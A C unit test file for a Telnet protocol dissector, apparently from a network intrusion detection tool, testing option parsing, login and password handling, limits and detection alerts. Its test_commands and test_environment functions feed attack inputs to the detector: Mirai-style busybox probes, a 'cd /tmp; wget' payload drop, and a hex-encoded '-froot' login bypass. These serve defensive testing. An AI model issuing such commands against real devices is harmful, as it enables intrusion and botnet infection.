/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * The Telnet dissector, telnet.c: commands, options (telnet_options.c), logins and what is typed
 * behind them (telnet_login.c).
 */
#include "text_feed.h"

extern const struct ft_dissector ft_dissector_telnet;
static const struct ft_dissector *const all[] = {&ft_dissector_telnet, NULL};

static int setup(void **state)
{
    (void)state;
    feed_open(&f, all, "telnet", FT_TRANSPORT_TCP, 23);
    return 0;
}

#define MESSAGE "{\"message\""

static void log_in(const char *banner);

static void test_options(void **state)
{
    (void)state;
    const char *out = to_client(&f, "fffd18 fffb01 fffc2e fffe03 fff1");
    assert_int_equal(feed_count(out, MESSAGE), 5);
    assert_has(out, "\"command\":\"do\"");
    assert_has(out, "\"option\":\"terminal_type\",\"option_code\":24");
    assert_has(out, "\"command\":\"will\"");
    assert_has(out, "\"option\":\"start_tls\"");
    assert_has(out, "\"command\":\"nop\"");
    assert_clean(out);
    /* terminal type, window, speed, display */
    out = to_server(&f, "fffa18007674323230fff0 fffa1f00500018fff0 fffa2000393630302c39363030fff0 "
                        "fffa2300613a30fff0");
    assert_has(out, "\"term\":\"vt220\"");
    assert_has(out, "\"columns\":80,\"rows\":24");
    assert_has(out, "\"speed\":\"9600,9600\"");
    assert_has(out, "\"display\":\"a:0\"");
    assert_clean(out);
    /* a window of 255 columns: IAC IAC in the data */
    assert_int_equal(feed_count(to_server(&f, "fffa1f00ffff0018fff0 fff1"), MESSAGE), 2);
    /* serial port: 9600 baud */
    out = to_server(&f, "fffa2c0100002580fff0");
    assert_has(out, "\"class\":\"config\"");
    assert_has(out, "\"com_port\":\"set_baud_rate\",\"com_port_code\":1,\"com_value\":9600");
    assert_violation(to_server(&f, "ff10"), "unknown_command");
}

/* Commands 1 to 5 set parameters; the answers to them are 100 more. Values have 1 to 4 bytes. */
static void test_serial_port(void **state)
{
    (void)state;
    static const char set[] = "\"class\":\"config\"";
    const char *out = to_server(&f, "fffa2c0501fff0");
    assert_has(out, set);
    assert_has(out, "\"com_port_code\":5,\"com_value\":1");
    out = to_server(&f, "fffa2c0601fff0");
    assert_has_not(out, set);
    assert_has(out, "\"com_port_code\":6,\"com_value\":1");
    out = to_server(&f, "fffa2c0061fff0"); /* a signature: text */
    assert_has_not(out, set);
    assert_has(out, "\"com_port_code\":0");
    assert_has_not(out, "com_value");
    out = to_client(&f, "fffa2c6500002580fff0");
    assert_has_not(out, set);
    assert_has(out, "\"com_port_code\":1,\"com_value\":9600");
    assert_has(to_client(&f, "fffa2c6403fff0"), "\"com_port_code\":0");
    assert_has(to_client(&f, "fffa2c6303fff0"), "\"com_port_code\":99");
    assert_has_not(to_server(&f, "fffa2c010000002580fff0"), "com_value");
    assert_has_not(to_server(&f, "fffa2c01fff0"), "com_value");
    /* no other option has settings */
    assert_has_not(to_server(&f, "fffa180501fff0"), set);
}

static void test_one_byte_segments(void **state)
{
    (void)state;
    static const char hex[] = "fffa18007674323230fff0fffb01";
    unsigned messages = 0;
    for (const char *at = hex; *at; at += 2) {
        char byte[3] = {at[0], at[1], 0};
        messages += feed_count(to_server(&f, byte), MESSAGE);
    }
    assert_int_equal(messages, 2);
    for (const char *at = "\r\nPLC-7\r\nlogin: "; *at; at++)
        feed_raw(&f, FT_TO_CLIENT, (const uint8_t *)at, 1);
    const char *out = "";
    for (const char *at = "joe\r"; *at; at++)
        out = feed_raw(&f, FT_TO_SERVER, (const uint8_t *)at, 1);
    assert_has(out, "\"user\":\"joe\"");
}

static void test_environment(void **state)
{
    (void)state;
    /* IS VAR USER VALUE joe USERVAR X */
    const char *out = to_server(&f, "fffa2700 0055534552016a6f65 0358 fff0");
    assert_has(out,
               "\"env\":[{\"name\":\"USER\",\"value\":\"joe\"},{\"name\":\"X\",\"value\":\"\"}]");
    assert_clean(out);
    assert_violation(to_server(&f, "fffa2700 0055534552012d66726f6f74 fff0"), "login_bypass");
    /* names are judged without what escapes the bytes in them: com ESC pass holds no "pass" */
    assert_has(to_server(&f, "fffa2700 03636f6d02 70617373 01 6e6f727468 fff0"),
               "\"value\":\"north\"");
    assert_has_not(to_server(&f, "fffa2700 03636f6d5f 70617373 01 6e6f727468 fff0"), "north");
    /* what is escaped does not end a name or a value: A ESC VAR VALUE b ESC USERVAR ESC VALUE c */
    out = to_server(&f, "fffa2700 034102 00 01 6202 03 0201 63 0042 01 64 fff0");
    assert_int_equal(feed_count(out, "\"name\":"), 2);
    assert_has(out, "\"name\":\"B\",\"value\":\"d\"");
    /* SEND has no values */
    assert_has_not(to_client(&f, "fffa270100fff0"), "\"env\"");
}

static void test_login(void **state)
{
    (void)state;
    const char *out = server("\r\nSIMATIC panel\r\n\r\nlogin: ");
    assert_has(out, "\"banner\":\"SIMATIC panel\"");
    assert_has(out, "\"prompt\":\"login:\"");
    assert_has(out, "\"fact\":\"vendor\",\"value\":\"Siemens\"");
    assert_has(out, "\"fact\":\"description\",\"value\":\"SIMATIC panel\"");
    out = client("jox\x7f\x65\r\n");
    assert_has(out, "\"command\":\"user\"");
    assert_has(out, "\"user\":\"joe\"");
    out = server("joe\r\nPassword:");
    assert_has(out, "\"prompt\":\"Password:\"");
    out = client("s3cret\r");
    assert_has(out, "\"password\":{\"length\":6");
    assert_violation(out, "credential_clear_text");
    assert_no_violation(out, "default_login");
    assert_has_not(out, "s3cret");
    assert_string_equal(client("\n"), "");
    out = server("\r\nLogin incorrect\r\nlogin: ");
    assert_has(out, "\"command\":\"login_result\"");
    assert_has(out, "\"result\":\"failure\"");
    assert_violation(out, "login_failed");
    client("admin\r\n");
    server("Password: ");
    assert_violation(client("admin\r\n"), "default_login");
    out = server("\r\nWelcome!\r\npanel-3# ");
    assert_has(out, "\"result\":\"success\"");
    assert_clean(out);
    out = client("show version\r\n");
    assert_has(out, "\"command\":\"line\"");
    assert_has(out, "\"cmdline\":\"show version\"");
    /* what the shell says is skipped, but for its prompts */
    assert_string_equal(server("show version\r\nbuild 7\r\npanel-3# "), "");
    client("enable\r\n");
    assert_has(server("Password: "), "\"command\":\"prompt\"");
    assert_has_not(client("t0p\r\n"), "t0p");
    assert_has(server("\r\npanel-3# "), "\"result\":\"success\"");
    assert_has_not(client("set password t0p\r\n"), "t0p");
}

/* A second prompt is a refusal, too; a shell's prompt names the device. */
static void test_results(void **state)
{
    (void)state;
    server("Username: ");
    client("joe\r\n");
    server("Password: ");
    client("x\r\n");
    assert_violation(server("\r\nPassword: "), "login_failed");
    client("y\r\n");
    const char *out = server("\r\nedge-sw.4>");
    assert_has(out, "\"result\":\"success\"");
    assert_has(out, "\"fact\":\"name\",\"value\":\"edge-sw.4\"");
    feed_next_flow(&f);
    server("login: ");
    client("joe\r\n");
    assert_clean(server("$ "));
    assert_has(client("ls\r\n"), "\"cmdline\":\"ls\"");
}

/* What servers say of a login that fails, and what is no such answer. */
static void test_failures(void **state)
{
    (void)state;
    static const char *const failures[] = {"Login incorrect", "% Authentication failed",
                                           "Access DENIED",   "Invalid login",
                                           "bad password",    "authentication failure"};
    static const char *const others[] = {"Checking", "Password accepted", "Last month"};
    for (unsigned i = 0; i < sizeof(failures) / sizeof(failures[0]) + 3; i++) {
        char text[64];
        bool is_failure = i < sizeof(failures) / sizeof(failures[0]);
        feed_next_flow(&f);
        server("login: ");
        client("joe\r\n");
        server("Password: ");
        client("x\r\n");
        snprintf(text, sizeof(text), "%s\r\n",
                 is_failure ? failures[i] : others[i - sizeof(failures) / sizeof(failures[0])]);
        const char *out = server(text);
        if (is_failure)
            assert_violation(out, "login_failed");
        else
            assert_has_not(out, "login_result");
    }
}

/* Questions for a password that end a line: four words at most, and the last of them says it. */
static void test_questions_with_an_end(void **state)
{
    (void)state;
    static const char *const questions[] = {"Password:\r\n", "Password:\r", "New password: \n",
                                            "Enter the new password:\r\n"};
    static const char *const others[] = {"Please enter the new password:\r\n",
                                         "Password policy:\r\n", "Password\r\n", ":\r\n"};
    for (unsigned i = 0; i < 4; i++) {
        log_in("box\r\n");
        server(questions[i]);
        assert_has(client("t0p\r\n"), "\"password\":{\"length\":3");
        log_in("box\r\n");
        server(others[i]);
        assert_has(client("t0p\r\n"), "\"cmdline\":\"t0p\"");
    }
}

/* One direction alone, or the middle: what is typed may be a password. */
static void test_without_prompts(void **state)
{
    (void)state;
    f.flow.is_midstream = 1;
    const char *out = client("s3cret\r\n");
    assert_has(out, "\"secret_line\":{\"length\":6");
    assert_has_not(out, "s3cret");
    assert_clean(out);
    server("box> ");
    assert_has(client("uptime\r\n"), "\"cmdline\":\"uptime\"");
}

static void log_in(const char *banner)
{
    feed_next_flow(&f);
    server(banner);
    server("\r\nlogin: ");
    client("joe\r\n");
    server("$ ");
}

static void test_commands(void **state)
{
    (void)state;
    log_in("box\r\n");
    assert_clean(client("enable\r\nsystem\r\nshow\r\nshell\r\nsh\r\n"));
    assert_violation(client("enable\r\nsystem\r\nshell\r\nsh\r\n"), "botnet_commands");
    assert_has(client("reboot\r\n"), "\"class\":\"config\"");
    log_in("box\r\n");
    assert_clean(client("enable \r\nsystem\r\nlinuxshell\r\nshell\r\n"));
    assert_violation(client(" sh\r\n"), "botnet_commands");
    log_in("box\r\n");
    assert_clean(client("busybox ls\r\nbusybox NTP\r\nbusybox ECCHi\r\nmybusybox\r\n"));
    assert_clean(client("busyboxes ECCHI\r\ncat /binbusybox\r\n"));
    assert_violation(client("busybox ECCHI\r\n"), "botnet_commands");
    assert_violation(client("id;busybox\tMIRAI;id\r\n"), "botnet_commands");
    assert_violation(client("/bin/busybox\tps\r\n"), "botnet_commands");
    assert_violation(client("/bin/busybox ECCHI\r\n"), "botnet_commands");
    assert_violation(server("ECCHI: applet not found\r\n"), "botnet_commands");
    assert_violation(client("cd /tmp; wget http://1/x\r\n"), "file_drop");
    assert_clean(client("m 5\r\n"));
    log_in("VxWorks 5.4\r\n");
    assert_violation(client("m 0x1000\r\n"), "vxworks_shell");
    assert_clean(client("i\r\n"));
    assert_has(client("reboot\r\n"), "\"class\":\"mode\"");
}

static void test_encryption(void **state)
{
    (void)state;
    uint8_t bytes[128] = {0xff, 0xfa, 0x26, 7};
    memset(bytes + 4, 'k', 64);
    memcpy(bytes + 68, "\xff\xf0", 2);
    assert_clean(feed_raw(&f, FT_TO_SERVER, bytes, 70));
    memset(bytes + 4, 'k', 65);
    memcpy(bytes + 69, "\xff\xf0", 2);
    assert_violation(feed_raw(&f, FT_TO_SERVER, bytes, 71), "long_key_id");
    /* START: what follows is encrypted */
    to_server(&f, "fffa260300fff0");
    assert_string_equal(client("login: joe\r\n\xff\xfb\x01"), "");
    assert_has(to_client(&f, "fffb01"), "\"command\":\"will\"");
}

static void test_limits(void **state)
{
    (void)state;
    static uint8_t bytes[20000];
    memset(bytes, 'a', sizeof(bytes));
    memcpy(bytes, "\xff\xfa\x18", 3);
    const char *out = feed_raw(&f, FT_TO_SERVER, bytes, 9000);
    assert_violation(out, "long_subnegotiation");
    assert_int_equal(feed_count(out, MESSAGE), 1);
    out = to_server(&f, "6161fff0 fff1");
    assert_int_equal(feed_count(out, MESSAGE), 1);
    assert_has(out, "\"command\":\"nop\"");
    memset(bytes, 'a', sizeof(bytes));
    bytes[8191] = '\r';
    assert_clean(feed_raw(&f, FT_TO_SERVER, bytes, 8192));
    memset(bytes, 'a', sizeof(bytes));
    memcpy(bytes + 12000, "\rexit\r", 6);
    out = feed_raw(&f, FT_TO_SERVER, bytes, 12006);
    assert_violation(out, "long_line");
    assert_int_equal(feed_count(out, MESSAGE), 2);
    assert_violation(feed_raw(&f, FT_TO_CLIENT, bytes, 12006), "long_line");
}

static enum ft_verdict probe(const char *hex)
{
    uint8_t bytes[FEED_MAX];
    uint32_t n = feed_bytes(hex, bytes);
    return ft_harness_probe(f.harness, &f.flow, FT_TO_SERVER, bytes, n);
}

static void test_probe(void **state)
{
    (void)state;
    assert_int_equal(probe("fffd18fffd20"), FT_YES);
    assert_int_equal(probe("fffd18"), FT_MAYBE);
    assert_int_equal(probe("fffd18fffd80"), FT_MAYBE);
    assert_int_equal(probe("fffdf8fffd20"), FT_NO);
    assert_int_equal(probe("ffffffff"), FT_NO);
    assert_int_equal(probe("0d0a6c6f67696e3a20"), FT_YES); /* login: */
    assert_int_equal(probe("00016c6f67696e3a20"), FT_NO);
    assert_int_equal(probe("474554202f20485454502f312e30"), FT_NO); /* GET / HTTP/1.0 */
}

static void test_garbage(void **state)
{
    (void)state;
    static const uint8_t sample[] =
        "\xff\xfa\x27\x00\x00USER\x01joe\xff\xf0\xff\xfb\x01login: joe\r\n"
        "Password: x\r\nbox# \xff\xff\xff\xf1reboot\r\n";
    feed_garbage(&f, sample, sizeof(sample));
}

#define TEST(name) cmocka_unit_test_setup_teardown(name, setup, teardown)

int main(void)
{
    const struct CMUnitTest tests[] = {
        TEST(test_options),
        TEST(test_one_byte_segments),
        TEST(test_environment),
        TEST(test_serial_port),
        TEST(test_login),
        TEST(test_results),
        TEST(test_without_prompts),
        TEST(test_failures),
        TEST(test_questions_with_an_end),
        TEST(test_commands),
        TEST(test_encryption),
        TEST(test_limits),
        TEST(test_probe),
        TEST(test_garbage),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
